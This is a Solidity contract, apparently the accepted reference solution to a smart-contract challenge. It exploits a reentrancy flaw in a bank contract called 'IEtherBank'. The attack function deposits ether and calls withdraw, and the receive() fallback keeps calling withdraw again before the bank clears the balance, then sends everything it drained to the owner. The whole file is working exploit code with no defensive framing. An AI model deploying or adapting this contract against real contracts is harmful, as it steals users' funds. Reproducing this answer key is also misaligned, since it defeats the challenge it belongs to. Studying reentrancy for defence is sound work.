// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// The reference exploit, compiled into solutions/accepted/drain.json.

interface IEtherBank {
    function deposit() external payable;
    function withdraw() external;
}

contract Attacker {
    IEtherBank private immutable bank;
    address private immutable owner;

    constructor(address bank_) {
        bank = IEtherBank(bank_);
        owner = msg.sender;
    }

    /// Deposits the ether sent, then withdraws it again and again from
    /// inside the bank's own payout, before the bank zeroes the balance.
    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "payout failed");
    }

    receive() external payable {
        if (msg.sender == address(bank) && address(bank).balance >= msg.value && msg.value > 0) {
            bank.withdraw();
        }
    }
}
